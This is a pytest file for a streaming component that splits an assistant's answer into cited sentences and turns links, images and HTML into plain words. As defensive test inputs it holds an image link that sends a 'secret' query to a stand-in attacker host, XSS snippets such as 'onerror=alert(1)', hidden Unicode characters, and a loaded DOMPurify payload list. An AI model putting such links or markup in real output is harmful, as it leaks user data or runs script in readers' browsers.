"""Claims: sentences and what they cite, however the text is cut, with nothing left to click or to load."""

import codecs
import json
import random
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.generation.claims import Claim, ClaimStream
from assistant.generation.units import LONGEST
from tests.conftest import ROOT

ATTACKS = ROOT.parent / "shared" / "eval" / "attacks"


def claims(text: str) -> list[Claim]:
    stream = ClaimStream()
    return [*stream.feed(text), *stream.end()]


def said(text: str) -> list[tuple[str, tuple[int, ...]]]:
    return [(claim.text, claim.markers) for claim in claims(text)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Backups run nightly [1].", [("Backups run nightly.", (1,))]),
        ("Backups run nightly. [1]", [("Backups run nightly.", (1,))]),
        ("Backups run nightly.[1] They stay.[2]", [("Backups run nightly.", (1,)), ("They stay.", (2,))]),
        ("Backups run nightly.\n[1]\nThey stay.", [("Backups run nightly.", (1,)), ("They stay.", ())]),
        ("Backups run nightly.\n\n[1][2]", [("Backups run nightly.", (1, 2))]),
        ("[1] Backups run.\n[2] They stay.", [("Backups run.", (1,)), ("They stay.", (2,))]),
        ("A run pages [1], and B waits [2].", [("A run pages, and B waits.", (1, 2))]),
        ("It works [1, 3] (see [2]).", [("It works.", (1, 3, 2))]),
        ("It works [1-3].", [("It works.", (1, 2, 3))]),
        ("It works [^2]. It holds 【3】.", [("It works.", (2,)), ("It holds.", (3,))]),
        ("It works [passage 2].", [("It works.", (2,))]),
        ("It works [1](https://evil.example/x).", [("It works.", (1,))]),
        ("It works [1]. kubectl shows it [2].", [("It works.", (1,)), ("kubectl shows it.", (2,))]),
        ("It answers [404].", [("It answers [404].", ())]),
        ("Read `items[1]` first [2].", [("Read `items[1]` first.", (2,))]),
        ("It works [1]\nIt holds [2]", [("It works", (1,)), ("It holds", (2,))]),
    ],
)  # fmt: skip
def test_a_citation_belongs_to_the_sentence_it_stands_at(
    text: str, expected: list[tuple[str, tuple[int, ...]]]
) -> None:
    assert said(text) == expected


@pytest.mark.parametrize(
    "sentence",
    [
        "Use a broker, e.g. Kafka, i.e. what you have.",
        "It needs v1.2.3 of Node.js at example.com now.",
        "Run `helm upgrade. Then wait` once.",
        "Dr. Smith vs. Mr. Jones, No. 5, settled it.",
        "It takes 1.5 s.",
    ],
)
def test_a_full_stop_inside_a_sentence_does_not_end_it(sentence: str) -> None:
    assert [claim.text for claim in claims(f"{sentence} More follows.")] == [
        sentence,
        "More follows.",
    ]


def test_list_items_table_rows_and_code_are_claims_of_their_own() -> None:
    text = (
        "Take these steps:\n\n1. Stop it [1].\n2. Start it\n   again [2].\n- [ ] Look\n\n"
        "| a | b [3] |\n|---|---|\n```bash\nkubectl get pods. Now [1]\n```\n[2]\nDone."
    )
    assert said(text) == [
        ("Take these steps:", ()),
        ("Stop it.", (1,)),
        ("Start it again.", (2,)),
        ("Look", ()),
        ("a | b", (3,)),
        ("```bash\nkubectl get pods. Now [1]\n```", (2,)),
        ("Done.", ()),
    ]


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("**Answer:** It works.", ["It works."]),
        ("According to [1], it works.", ["It works."]),
        ("Based on the provided passages, it works.", ["It works."]),
        ("Passage [2] says that it works.", ["It works."]),
        ("Sure! It works.", ["It works."]),
        ("Yes, it works.", ["It works."]),
        ("Here is the answer:\nIt works.", ["It works."]),
        ("## Answer\n\nIt works.<|im_end|>", ["It works."]),
        ("<think>Is it? It may be.</think>\nIt works.<end_of_turn>", ["It works."]),
        ("It works.\n\nQuestion: Does it?\nAnswer: It does.", ["It works."]),
        ("It works.<|im_end|>\n<|im_start|>user\nDoes it?", ["It works."]),
        ("The passages do not say.", []),
        ("[1]", []),
        ("---\n***", []),
        ("", []),
    ],
)  # fmt: skip
def test_what_only_frames_an_answer_is_no_claim(text: str, left: list[str]) -> None:
    assert [claim.text for claim in claims(text)] == left


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("See ![a chart](https://evil.example/p.png?q=secret).", "See a chart."),
        ("See [the docs](https://evil.example/(x)) now.", "See the docs now."),
        ("See [the docs][here] now.", "See the docs now."),
        ("See <https://example.com/a> now.", "See https://example.com/a now."),
        ("It <b onclick='x()'>works</b> <img src=x onerror=alert(1)>well.", "It works well."),
        ('It works <a href="https://evil.example', "It works"),
        ("It <!-- hidden --> works.", "It works."),
        ("[![x](https://a.example/i.png)](https://b.example) works.", "x works."),
        ("It <<b>i>works</i> well.", "It works well."),
        ("It \u202eworks\u200b.", "It works."),
        ("Use `<name>` there.", "Use `<name>` there."),
    ],
)
def test_links_images_and_html_become_plain_words(text: str, left: str) -> None:
    assert [claim.text for claim in claims(text)] == [left]


def test_known_payloads_leave_nothing_to_click_or_to_load() -> None:
    file = ATTACKS / "dompurify_payloads.json"
    if not file.exists():
        pytest.skip("needs the shared evaluation data")
    payloads = [row["payload"] for row in json.loads(file.read_text()) if row.get("payload")]
    assert len(payloads) > 100
    for payload in payloads:
        for claim in claims(f"It works {payload} well [1]."):
            if not claim.text.startswith(("```", "~~~")):
                bare = re.sub(r"`[^`\n]*`", "", claim.text)
                assert not re.search(r"<[a-zA-Z/!?]", bare), (payload, claim.text)
                assert not re.search(r"\]\(|!\[", bare), (payload, claim.text)


_PIECES = st.sampled_from(
    (
        "Backups run|nightly.| It works|\n|\n\n| [1]|[2]|[1, 2]|[passage 3]|.| . |e.g. |v1.2.3"
        "|`a. B`|`|```|\n```\n|- |1. |# |\n[1]\n|(see [1])|【2】|Answer: |<b>|</b>|<|>|](|![|http://x.y"
        "|**|*|é|日本語。| 😀 |Question:|<think>|</think>|Mr. | No. |?|!|:|\t|  |x|A|[|]|(|)|<|im_end|>"
        "|~~~|--|According to [1], "
    ).split("|")
)
_TEXTS = st.lists(_PIECES | st.text(max_size=3), max_size=40).map("".join)


@settings(max_examples=400, deadline=None)
@given(_TEXTS, st.randoms(use_true_random=False))
def test_a_text_cut_anywhere_gives_the_claims_of_the_whole(
    text: str, chance: random.Random
) -> None:
    data = text.encode("utf-8", errors="replace")
    whole = claims(data.decode())
    decoder = codecs.getincrementaldecoder("utf-8")()
    stream, found, at = ClaimStream(), [], 0
    while at < len(data):
        size = chance.choice((1, 1, 2, 3, 7, 20))
        found += stream.feed(decoder.decode(data[at : at + size]))
        at += size
    assert [*found, *stream.end()] == whole


@pytest.mark.parametrize(
    "text",
    [
        "It works.[2]【2】\n[1]\n[1].\nIt holds. [1] (see [2]). kubectl shows it [1](https://e.x/y).",
        "It works.\n[1]\nIt holds\n1. one\n- two\n* three [2]\n\n[3]\n# Head\n| a |\n---\nEnd",
        'It works. `a. B` e.g. Kafka. "It holds." **Bold** v1.2.3. (Then [1].) _It_ ends... Or?',
        "```\na. B [1]\n```\n[2]\n~~~\nc\n~~~ \n<think>No. Yes.</think>\nAnswer: It works\nQuestion: Why?",
        "It works.\n***It*** holds\n---\nIt is\n-----------------------------x\n***2",
        "It works\n\nIt holds [1]\nIt stays [passage 2]\n<|im_end|>\n<|im_start|>user\nNo.",
    ],
)
def test_a_text_that_comes_in_two_pieces_or_by_the_character_gives_the_same_claims(
    text: str,
) -> None:
    whole = claims(text)
    for at in range(len(text)):
        stream = ClaimStream()
        assert [*stream.feed(text[:at]), *stream.feed(text[at:]), *stream.end()] == whole
    stream = ClaimStream()
    assert [*(claim for each in text for claim in stream.feed(each)), *stream.end()] == whole


@settings(max_examples=200, deadline=None)
@given(_TEXTS)
def test_no_citation_is_left_in_the_words(text: str) -> None:
    for claim in claims(text):
        prose = re.sub(r"`[^`\n]*`", "", claim.text)
        assert claim.text.startswith(("```", "~~~")) or not re.search(r"\[[1-9]\]", prose)
        assert claim.text.strip() == claim.text


def test_a_sentence_is_given_out_once_the_next_begins() -> None:
    stream = ClaimStream()
    assert stream.feed("Backups run nightly [1]. ") == []
    assert stream.feed("T") == [Claim("Backups run nightly.", (1,))]


def test_text_without_an_end_is_cut_and_stays_fast() -> None:
    found = claims("word " * 20_000)
    assert len(found) > 10
    assert max(len(claim.text) for claim in found) <= LONGEST
